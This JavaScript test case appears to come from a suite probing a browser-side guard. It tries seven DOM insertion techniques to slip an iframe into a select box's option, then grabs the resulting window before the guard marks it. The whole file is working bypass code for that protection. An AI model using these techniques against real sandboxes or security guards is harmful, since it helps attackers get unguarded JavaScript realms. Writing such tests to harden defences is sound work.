// E09: every other way by which a frame comes to stand in an option, which a list box then inserts unseen.
import { NAVIGATES, realmTheft } from './thief.mjs';

export default realmTheft({
  id: 'E09',
  title: 'fetch of a frame inside an option, by many ways',
  source: 'our own review of what an insertion costs',
  engines: NAVIGATES,

  attack: async (a, steal) => {
    // A document that takes its time: until it does, the first one is there to be used.
    const frame = document.createElement('iframe');
    frame.src = '/api/late';
    const select = document.createElement('select');
    document.documentElement.append(select);
    const late = '<iframe src="/api/late"></iframe>';
    const optionIn = (tree) => tree.querySelector('option');
    const inDiv = () => {
      const holder = document.createElement('div');
      holder.append(frame);
      return holder;
    };
    const empty = () => {
      const option = document.createElement('option');
      option.append('text');
      return option;
    };
    const ways = {
      text() {
        const option = empty();
        option.firstChild.before(inDiv());
        return option;
      },
      range() {
        const option = empty();
        const range = document.createRange();
        range.selectNodeContents(option);
        range.insertNode(inDiv());
        return option;
      },
      surround() {
        const option = document.createElement('option');
        const range = document.createRange();
        const holder = document.createElement('div');
        holder.append(inDiv());
        range.selectNodeContents(holder);
        range.surroundContents(option);
        return option;
      },
      outer() {
        const holder = document.createElement('div');
        holder.append(document.createElement('p'));
        holder.firstChild.outerHTML = `<option>${late}</option>`;
        return optionIn(holder);
      },
      adjacent() {
        const holder = document.createElement('div');
        holder.append(document.createElement('p'));
        holder.firstChild.insertAdjacentHTML('afterend', `<option>${late}</option>`);
        return optionIn(holder);
      },
      unsafe: () => optionIn(Document.parseHTMLUnsafe(`<option>${late}</option>`)),
      style() {
        const sheet = new DOMParser().parseFromString(
          `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><option>${late}</option></xsl:template></xsl:stylesheet>`,
          'text/xml',
        );
        const processor = new XSLTProcessor();
        processor.importStylesheet(sheet);
        return optionIn(processor.transformToFragment(sheet, document));
      },
    };
    for (const how of Object.keys(ways)) {
      try {
        const option = ways[how]();
        select.options[select.options.length] = option;
        for (let i = 0; i < window.length; i += 1) if (!window[i].payeeguard) steal(window[i]);
      } catch {
        // Refused, or unknown here.
      }
    }
  },
});
